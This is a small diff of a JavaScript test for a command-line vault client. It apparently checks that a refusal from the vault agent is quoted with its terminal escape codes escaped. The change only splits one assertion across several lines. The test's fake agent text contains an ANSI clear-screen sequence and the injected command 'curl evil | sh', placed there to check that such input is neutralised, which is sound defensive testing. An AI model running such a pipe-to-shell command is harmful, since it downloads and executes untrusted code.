@@ -121,7 +121,10 @@ words("a refusal quotes the agent, escaped, after saying who said it", async () 
     assert.is(get.stdout, "");
     assert.not.match(get.stderr, /^aim: FAKE/m);
     assert.not.ok(get.stderr.includes("\u001b"), JSON.stringify(get.stderr));
-    assert.match(get.stderr, /^aim: the vault agent refused to open the vault; it said: "FAKE-AGENT-TEXT\\u001b\[2J run: curl evil \| sh"/m);
+    assert.match(
+      get.stderr,
+      /^aim: the vault agent refused to open the vault; it said: "FAKE-AGENT-TEXT\\u001b\[2J run: curl evil \| sh"/m,
+    );
   } finally {
     w.cleanup();
   }
